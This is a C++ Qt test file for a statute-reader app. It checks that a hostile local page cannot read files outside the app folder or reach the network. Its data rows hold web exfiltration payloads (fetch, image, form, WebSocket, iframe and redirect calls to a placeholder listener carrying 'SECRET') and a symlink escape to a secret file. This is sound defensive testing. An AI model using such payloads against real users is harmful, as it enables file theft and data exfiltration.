// A statute's page that tries to read the person's files and send them
// out, driven by the person's pointer. A listener on the loopback stands for
// the web and must hear nothing; the desktop's browser is stood in for.
#include "shell/reader_page.h"
#include "shell/web_browser.h"
#include "tests/support/page_script.h"
#include "tests/support/temp_dir.h"

#include <QDesktopServices>
#include <QSignalSpy>
#include <QTcpServer>

class HostilePageTest : public QObject {
    Q_OBJECT

    lexoria::testing::TempDir root_;
    QTcpServer listener_;
    QList<QUrl> desktop_;

    QString app(const QString& name = {}) const { return QString::fromStdString(root_.appPath() + "app/") + name; }
    QString secret() const { return QUrl::fromLocalFile(QString::fromStdString(root_.appPath() + "secret.html")).toString(); }

public slots:
    void openOnDesktop(const QUrl& url) { desktop_ << url; }

private slots:
    void initTestCase()
    {
        QVERIFY(listener_.listen(QHostAddress::LocalHost));
        root_.write("secret.html", "<p>SECRET</p>");
        root_.write("app/inside.txt", "INSIDE");
        root_.write("app/index.html", "<frameset rows=\"*\"><frame name=\"T\" src=\"hostile.html\"></frameset>");
        std::filesystem::create_symlink(root_.path() / "secret.html", root_.path() / "app/out.html");
        for (const char* scheme : {"http", "https", "mailto"}) QDesktopServices::setUrlHandler(scheme, this, "openOnDesktop");
    }

    void cleanupTestCase()
    {
        for (const char* scheme : {"http", "https", "mailto"}) QDesktopServices::unsetUrlHandler(scheme);
    }

    // The page's element "go" covers its frame, and the person clicks it.
    // `end` says that an attempt is over; a navigation, whose end the page
    // never hears, ends where the reader refuses it.
    void nothingLeavesTheFolder_data()
    {
        QTest::addColumn<QString>("page");     // LISTENER and OUTSIDE stand for the addresses
        QTest::addColumn<QString>("ended");    // what `end` was told; empty for a navigation
        QTest::addColumn<QString>("desktop");  // the address handed to the desktop
        const auto button = [](const QString& script) { return "<button id='go' onclick=\"" + script + "\">go</button>"; };
        const auto link = [](const QString& href) { return "<a id='go' href='" + href + "' target='_top'>go</a>"; };
        const QString frame = "const f = document.createElement('iframe'); f.src = '%1'; document.body.append(f)";
        QTest::newRow("sync read outside") << button("read('OUTSIDE', false)") << "refused" << "";
        QTest::newRow("sync read inside") << button("read('inside.txt', false)") << "INSIDE" << "";
        QTest::newRow("async read outside") << button("read('OUTSIDE', true)") << "refused" << "";
        QTest::newRow("async read inside") << button("read('inside.txt', true)") << "INSIDE" << "";
        QTest::newRow("fetch") << button("fetch('http://LISTENER').then(() => end('loaded'), () => end('refused'))") << "refused" << "";
        QTest::newRow("image") << button("add(new Image()).src = 'http://LISTENER'") << "refused" << "";
        QTest::newRow("stylesheet") << button("const e = document.createElement('link'); e.rel = 'stylesheet'; add(e).href = 'http://LISTENER'") << "refused" << "";
        QTest::newRow("frame") << button(frame.arg("http://LISTENER")) << "" << "";
        QTest::newRow("form") << "<form action='http://LISTENER' method='post'><input name='a' value='SECRET'><button id='go'>go</button></form>" << "" << "";
        QTest::newRow("WebSocket") << button("new WebSocket('ws://LISTENER').onclose = () => end('closed')") << "closed" << "";
        QTest::newRow("script navigation") << button("top.location = 'http://LISTENER'") << "" << "";
        QTest::newRow("refresh") << "<meta http-equiv='refresh' content='0; url=http://LISTENER'>" + button("") << "" << "";
        QTest::newRow("a script clicks a web link") << "<a id='web' href='http://LISTENER' target='_top'></a>" + button("document.getElementById('web').click()") << "" << "";
        QTest::newRow("the person clicks a web link") << link("http://LISTENER") << "" << "http://LISTENER";
        QTest::newRow("link outside") << link("OUTSIDE") << "" << "";
        QTest::newRow("frame through a link pointing outside") << button(frame.arg("out.html")) << "" << "";
    }

    void nothingLeavesTheFolder()
    {
        QFETCH(QString, page);
        QFETCH(QString, ended);
        QFETCH(QString, desktop);
        const QString listener = QStringLiteral("127.0.0.1:%1/x?SECRET").arg(listener_.serverPort());
        page.replace("LISTENER", listener).replace("OUTSIDE", secret());
        root_.write("app/hostile.html", R"(<!DOCTYPE html><html><head><style>#go { position: fixed; inset: 0; }</style><script>
            function end(what) { document.title = 'ended ' + what; }
            function add(e) { e.onload = () => end('loaded'); e.onerror = () => end('refused'); document.body.append(e); return e; }
            function read(url, async) {
                const x = new XMLHttpRequest(); x.open('GET', url, async);
                x.onload = () => end(x.responseText); x.onerror = () => end('refused');
                try { x.send(); } catch (e) { end('refused'); }
            }</script></head><body><p id='statute'>Clen 1</p>)" + page.toStdString() + "</body></html>");
        for (desktop_.clear(); listener_.hasPendingConnections();)
            delete listener_.nextPendingConnection();

        WebBrowser view(app());
        view.resize(600, 400);
        view.show();
        QVERIFY(QTest::qWaitForWindowExposed(&view));
        QSignalSpy refused(qobject_cast<ReaderPage*>(view.page()), &ReaderPage::navigationRefused);
        QSignalSpy loaded(&view, &QWebEngineView::loadFinished);
        view.Navigate(app("index.html"));
        QVERIFY(waitUntil([&] { return !loaded.isEmpty() && allFramesComplete(view.page()); }));
        QTest::mouseClick(view.focusProxy(), Qt::LeftButton, {}, view.rect().center());
        const auto title = [&] { return runScript(view.page(), inFrame("T", "document.title")).toString(); };
        QVERIFY(waitUntil([&] { return listener_.hasPendingConnections() || (ended.isEmpty() ? !refused.isEmpty() : title().startsWith("ended")); }));
        QVERIFY2(!listener_.hasPendingConnections(), "the listener was reached");
        QCOMPARE(title(), ended.isEmpty() ? QString() : "ended " + ended);
        QCOMPARE(desktop_, desktop.isEmpty() ? QList<QUrl>{} : QList<QUrl>{QUrl(desktop.replace("LISTENER", listener))});
        // The statute stays, and nothing is left loading.
        QVERIFY(waitUntil([&] { return !view.page()->isLoading(); }));
        QCOMPARE(view.url(), QUrl::fromLocalFile(app("index.html")));
        QCOMPARE(runScript(view.page(), inFrame("T", "document.getElementById('statute').textContent")).toString(), "Clen 1");
    }
};

QTEST_MAIN(HostilePageTest)
#include "hostile_page_test.moc"
